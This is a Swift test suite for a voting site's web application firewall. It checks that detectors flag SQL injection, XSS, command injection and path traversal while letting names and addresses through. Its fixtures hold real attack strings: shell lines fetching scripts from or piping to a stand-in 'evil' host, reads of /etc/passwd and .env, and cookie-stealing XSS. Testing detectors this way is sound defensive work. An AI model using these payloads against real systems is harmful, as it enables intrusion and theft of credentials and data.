import PnyxCore
import Testing
@testable import PnyxWAF

/// The native detectors behind @detectSQLi and @detectXSS: attacks found, ordinary voter input left alone.
@Suite("WAF native detectors: SQL injection and XSS")
struct WAFDetectorTests {
    static let sqlAttacks = [
        "1234 OR 1=1", "-1839' or '1'='1", "-1839\" or \"1\"=\"2", "2010-01-01'+sleep(20.to_i)+'",
        "EmptyValue' and 526=527", "foo') UNION ALL select NULL --", "foo')waitfor delay'5:0:20'--",
        "x' and sleep(12) --", "sleep(20)", "' OR 1=1--", "admin'--", "1; DROP TABLE voters", "1 union select 1,2",
        "' union select password from users--", "1/**/or/**/1=1", "(select @@version)", "1) or (1=1",
        "' or benchmark(1000000,md5(1))#", "\"unittests@coreruleset.org\"')) and (select*from(select(sleep(5)))x) --",
    ]
    static let sqlBenign = [
        "O'Brien", "Siobhan O'Brien", "Nuñez", "D'Angelo-Smith", "12 Main St #4; Apt 2", "I want to select a union rep",
        "Please drop me from the list", "Tom and Jerry", "rock 'n' roll", "don't select or drop anything",
        "McDonald's and Smith's", "1 or 2 people", "She said \"hello\" or so", "2024-11-05", "555-0100",
        "john.doe@example.com", "Order by phone", "update my address", "(select one) of the options",
        "Is it 5' or 6'?", "select", "union", "or", "1=1 is true", "The Union Select Committee", "it's 3 o'clock",
    ]

    @Test("SQL injection payloads are found")
    func sqlAttacksFound() {
        for payload in Self.sqlAttacks {
            #expect(SQLInjectionDetector.detect(Array(payload.utf8)) != nil, "missed: \(payload)")
        }
    }

    @Test("names, addresses and free text are not SQL injection")
    func sqlBenignPasses() {
        for text in Self.sqlBenign {
            #expect(SQLInjectionDetector.detect(Array(text.utf8)) == nil, "false positive: \(text) \(SQLInjectionDetector.detect(Array(text.utf8)) ?? "")")
        }
    }

    @Test("XSS payloads are found; ordinary text with quotes and angle brackets is not")
    func xss() {
        let attacks = [
            "<script>alert(1)</script>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
            "<xss onbeforehellfreezes=alert(1)>", "\"onmouseover='prompt(document.cookie)'\"", "<svg/onload=alert()",
            "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=//evil>",
            "<a href=\"&#106;avascript:alert(1)\">", "' onfocus='alert(1)' autofocus='", "javascript:alert(1)",
        ]
        for payload in attacks {
            #expect(XSSDetector.detect(Array(payload.utf8)), "missed: \(payload)")
        }
        let benign = [
            "O'Brien", "a < b and c > d", "I <3 voting", "She said \"on time\"", "5 > 3", "<b>bold</b> text",
            "Click \"online\" to register", "x<y", "See <https://example.gov>", "once=twice", "\"one\" = 'two'",
        ]
        for text in benign {
            #expect(!XSSDetector.detect(Array(text.utf8)), "false positive: \(text)")
        }
    }

    @Test("command injection and path traversal: attacks found, addresses and prose with ; | and .. left alone")
    func shellAndPaths() {
        let commands = ["; cat /etc/passwd", "x|id", "a && whoami", "`uname -a`", "$(curl http://evil/x.sh)", "1;ls -la",
                        "foo | nc evil 4444", "\nwget http://evil/x", "; /bin/sh -c id", "|| ping -c 3 10.0.0.1"]
        for payload in commands {
            #expect(CommandInjectionDetector.detect(Array(payload.utf8)), "missed: \(payload)")
        }
        let prose = ["Apt 2; 3rd floor", "Tom & Jerry", "red | blue | green", "rock && roll", "Main St; cat lovers welcome",
                     "I set my alarm; sleep is good", "5 $ (five dollars)", "type of ballot", "echo chamber", "O'Brien; Nuñez"]
        for text in prose {
            #expect(!CommandInjectionDetector.detect(Array(text.utf8)), "false positive: \(text)")
        }
        let paths = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd",
                     "../../.env", "file=../../../proc/self/environ"]
        for payload in paths {
            #expect(PathTraversalDetector.detect(Array(payload.utf8)), "missed: \(payload)")
        }
        let benign = ["../images/logo.png", "/results/2026/summary.json", "Clearwater County/etc.", "see ... and more",
                      "my passwd is secret", "1.5 ... 2.5"]
        for text in benign {
            #expect(!PathTraversalDetector.detect(Array(text.utf8)), "false positive: \(text)")
        }
    }

    @Test("engine native: the detectors judge the parsed arguments, cookies and path without CRS")
    func nativeEngine() throws {
        var policy = WAFPolicy()
        policy.engine = .native
        let rules = try WAFRuleSets.load(policy)
        #expect(rules.ruleCount < 10)
        func find(_ target: String, body: String = "", type: String = "application/x-www-form-urlencoded") -> String? {
            let headers: [(name: String, value: String)] = [("Host", "vote.test"), ("Content-Type", type)]
            let transaction = Transaction(rules: rules, request: WAFRequest(method: body.isEmpty ? "GET" : "POST", target: target, headers: headers))
            transaction.processRequestHeaders()
            transaction.processRequestBody(Array(body.utf8))
            return NativeEngine.find(transaction)?.detector
        }
        #expect(find("/lookup?q=%27%20OR%201=1--") == "sqli")
        #expect(find("/lookup", body: "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E") == "xss")
        #expect(find("/api", body: #"{"host":"x; cat /etc/passwd"}"#, type: "application/json") == "command_injection")
        #expect(find("/download?file=..%2F..%2F..%2Fetc%2Fpasswd") == "path_traversal")
        #expect(find("/register", body: "first=Siobhan&last=O%27Brien&street=12+Main+St+%234%3B+Apt+2&note=select+a+union+rep") == nil)
    }
}
